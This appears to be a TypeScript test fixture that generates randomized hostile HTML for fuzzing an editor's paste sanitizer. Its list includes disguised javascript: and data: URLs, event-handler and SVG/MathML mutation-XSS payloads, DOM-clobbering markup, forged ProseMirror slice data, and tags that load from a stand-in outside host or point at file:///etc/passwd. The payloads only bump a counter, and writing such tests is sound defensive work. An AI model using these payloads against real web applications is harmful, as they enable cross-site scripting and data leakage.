// Markup that wants to run, to leave the page, or to make a story that no file can hold: the same at
// every run. Whatever of it runs says so in `window.ran`, or asks for an address below `outside`.

import type { Dice } from "../reliability/seeded";

export const outside = "https://stet-outside.example";

const ran = "window.ran=(window.ran||0)+1";

/** Schemes in disguise; the first ones would run, the last ones would leave the machine. */
export const badAddresses: readonly string[] = [
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  ` \u0001javascript:${ran}`,
  `java\tscript:${ran}`,
  `java\r\nscript:${ran}`,
  `java\u0000script:${ran}`,
  `\u00a0javascript:${ran}`,
  `javascript\u200b:${ran}`,
  `javascript://https://example.org/%0a${ran}`,
  `view-source:javascript:${ran}`,
  `vbscript:msgbox(1)`,
  `livescript:${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>`,
  `blob:stet://app/0b8a4f5e-6a53-4d61-9c1f-5d0a5f2f8a11`,
  `filesystem:https://example.org/temporary/x`,
  "file:///etc/passwd",
  "file://server/share",
  "\\\\server\\share\\x.exe",
  "//server/share",
  "smb://server/share",
  "ftp://example.org/",
  "ms-msdt:/id PCWDiagnostic",
  "search-ms:query=x",
  "vscode://x",
  "tel:+123",
  "sms:+123",
  "about:blank",
  "chrome://settings",
  "devtools://devtools/bundled/inspector.html",
  "stet://app/index.html",
  "stet-media://x/y.png",
  "jar:https://example.org!/",
  "ws://example.org/",
  "x:y",
  "/etc/passwd",
  "../../x",
  "#top",
  "?x",
  "C:\\Windows\\x.exe",
];

const handlers = "onerror onload onclick onfocus ontoggle onbegin onanimationstart onpaste ondrop";
const names = "script template noscript style title textarea xmp noembed iframe plaintext select";
const tags = "p b i a h1 h2 ul li blockquote figure figcaption div span table td font".split(" ");
const formers = "self top parent document location body attributes nodeName firstChild stet root";

type Maker = (dice: Dice) => string;

const scripts: Maker = (dice) =>
  dice.one([
    `<script>${ran}</script>`,
    `<script src="${outside}/x.js"></script>`,
    `<script type=module>import "${outside}/x.js"</script>`,
    `<script/x>${ran}</script>`,
    `<ScRiPt\n>${ran}</sCrIpT\t>`,
    `<<script>${ran}//<</script>`,
    `<script>/*<p>*/${ran}/*`,
    `<noscript><p title="</noscript><script>${ran}</script>">`,
  ]);

const handler: Maker = (dice) => {
  const name = dice.one(handlers.split(" "));
  const tag = dice.one([...tags, "img src=x", "details open", "input autofocus", "video src=x"]);
  const quote = dice.one(['"', "'", ""]);
  const code = quote === "" ? ran.replaceAll(" ", "") : ran;
  return `<${tag} ${dice.one(["", "/", "x=y/"])}${name}=${quote}${code}${quote}>words`;
};

const link: Maker = (dice) => {
  const address = dice.one(badAddresses).replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const encoded = dice.chance(0.3) ? address.replace(/[js]/i, entity) : address;
  const target = dice.one(["", "target=_blank", "ping=" + outside, "download", "rel=opener"]);
  return `<a href="${encoded}" ${target}>a link</a>`;
};

const foreign: Maker = (dice) =>
  dice.one([
    `<svg onload="${ran}"><p>in</svg>`,
    `<svg><script>${ran}</script></svg>`,
    `<svg><a xlink:href="javascript:${ran}"><text>x</text></a></svg>`,
    `<svg><animate onbegin="${ran}" attributeName=x dur=1s></svg>`,
    `<svg><set attributeName=href to="javascript:${ran}"></svg>`,
    `<svg><use href="${outside}/x.svg#x"></use><image href="${outside}/x.png"></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${ran}</script>"></foreignObject></svg>`,
    `<svg></p><style><a id="</style><img src=x onerror=${ran}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
    `<math href="javascript:${ran}">x</math>`,
    `<math><annotation-xml encoding="text/html"><script>${ran}</script></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${ran} src>">`,
  ]);

const raw: Maker = (dice) => {
  const name = dice.one(names.split(" "));
  const inner = dice.one([
    `<img src=x onerror=${ran}>`,
    `</${name}><img src=x onerror=${ran}>`,
    `<!--</${name}><img src=x onerror=${ran}>-->`,
    `<p id="</${name}><img src=x onerror=${ran}>">`,
    scripts(dice),
  ]);
  return `<${name}>${inner}${dice.chance(0.7) ? `</${name}>` : ""}`;
};

const frame: Maker = (dice) =>
  dice.one([
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<iframe src="${dice.one(badAddresses)}"></iframe>`,
    `<iframe src="${outside}/frame"></iframe>`,
    `<frameset onload="${ran}"><frame src="${outside}/frame">`,
    `<object data="${outside}/x.swf"><param name=x value="javascript:${ran}"></object>`,
    `<embed src="data:text/html,<script>${ran}</script>">`,
    `<webview src="${outside}" nodeintegration></webview>`,
    `<portal src="${outside}"></portal><fencedframe src="${outside}"></fencedframe>`,
  ]);

const leaving: Maker = (dice) =>
  dice.one([
    `<meta http-equiv=refresh content="0;url=${outside}/refresh">`,
    `<meta http-equiv=refresh content="0;url=javascript:${ran}">`,
    `<meta http-equiv=Content-Security-Policy content="script-src *">`,
    `<base href="${outside}/"><p>words`,
    `<link rel=stylesheet href="${outside}/x.css"><link rel=dns-prefetch href="${outside}">`,
    `<link rel=preload as=image href="${outside}/x.png"><link rel=import href="${outside}">`,
    `<form action="${outside}" id=f><input name=x></form><button form=f formaction="javascript:${ran}">b`,
    `<img src="${outside}/x.png" srcset="${outside}/y.png 2x">`,
    `<picture><source srcset="${outside}/x.png"><img></picture>`,
    `<video poster="${outside}/x.png"><source src="${outside}/x.mp4" onerror="${ran}">`,
    `<body background="${outside}/x.png" onload="${ran}">`,
    `<p style="background:url(${outside}/x.png);behavior:url(x.htc)">words`,
    `<style>@import "${outside}/x.css"; p { background: url(${outside}/x.png) }</style>`,
    `<input type=image src="${outside}/x.png"><isindex action="javascript:${ran}">`,
    `<table background="${outside}/x.png"><tr><td>cell`,
    `<a href="${outside}/fine">a fine link</a>`,
  ]);

const clobber: Maker = (dice) => {
  const name = dice.one(formers.split(" "));
  return dice.one([
    `<form id=${name} name=${name}><input name=${name}></form>`,
    `<a id=${name}></a><a id=${name} name=x href="${outside}/">x</a>`,
    `<img name=${name} id=${name}><p id=${name} class="editor ProseMirror story">words`,
    `<div class="figure-caption" data-alt="x" id=${name}>caption</div>`,
  ]);
};

const contexts: readonly unknown[] = [
  ["figure", { media: "../../../etc/passwd", width: -1, height: 1e99, alt: 7 }],
  ["figure", { media: `javascript:${ran}`, width: "1", height: null, alt: { toString: 1 } }],
  ["figure", null, "caption", null],
  ["doc", { language: "<script>", keywords: 7, urgency: 99 }],
  ["doc", null, "headline", null],
  ["bulletlist", null, "listitem", null],
  ["bulletlist", { __proto__: { x: 1 } }, "listitem", { onclick: ran }],
  ["quote", null, "attribution", null],
  ["__proto__", null, "constructor", null],
  ["text", null],
  ["paragraph", { style: `x:${ran}` }],
  [["figure"], {}],
  [null, null],
  {},
  "figure",
  7,
];

/** ProseMirror's own note of where a copy came from, as nobody but an attacker writes it. */
const forged: Maker = (dice) => {
  const context = dice.one([...contexts.map((one) => JSON.stringify(one)), "[", "", "null"]);
  const open = [dice.one([0, 1, 2, 5, 99, -1]), dice.one([0, 1, 3, 1e9])].join(" ");
  const wrap = dice.one(["", " -1", " -5", " -999"]);
  const note = `${open}${wrap} ${context}`.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const media = dice.one(["../../x.png", "x.svg", `${"0".repeat(64)}.png`, ""]);
  const inner = dice.one([
    "<p>words</p>",
    "words",
    `<figure data-media="${media}" data-width="1e9" data-height="-1" data-alt="&quot;><b>">c</figure>`,
    `<div class="figure-caption">a</div><div class="figure-credit">b</div>`,
    "<li>one</li><td>two</td>",
    "",
  ]);
  return `<div data-pm-slice="${note}">${inner}</div>`;
};

const broken: Maker = (dice) =>
  dice.one([
    "<p".repeat(1 + dice.below(50)),
    "<div>".repeat(100 + dice.below(400)) + "deep",
    "<b>".repeat(200) + "bold",
    "<ul><li>".repeat(60) + "listed",
    `<p title="${"x".repeat(5000)}">long`,
    "<![CDATA[<p>]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY e '<script>'>]>&e;",
    "\u0000<\u0000p>nul\ufeff\u202e\ud800lone\u2028line",
    "<!--><img src=x onerror=window.ran=1>--!><!-->",
    "<table><p>foster</p><script>window.ran=1</script><tr><td><select><option><p>x",
    "<h1>head</h1></body></html><body onload=window.ran=1>",
  ]);

const makers: readonly Maker[] = [
  scripts,
  handler,
  link,
  foreign,
  raw,
  frame,
  leaving,
  clobber,
  forged,
  broken,
];

/** One to four of these tricks, side by side or inside each other. */
export function hostileHtml(dice: Dice): string {
  let html = "";
  for (let n = dice.below(4); n >= 0; n -= 1) {
    const piece = dice.one(makers)(dice);
    const tag = dice.one(tags);
    const isInside = dice.chance(0.3);
    html = isInside ? `<${tag}>${html}${piece}</${tag}>` : html + piece;
  }
  return dice.chance(0.2) ? `<html><body><!--StartFragment-->${html}<!--EndFragment-->` : html;
}

function entity(letter: string): string {
  return `&#x${letter.charCodeAt(0).toString(16)};`;
}
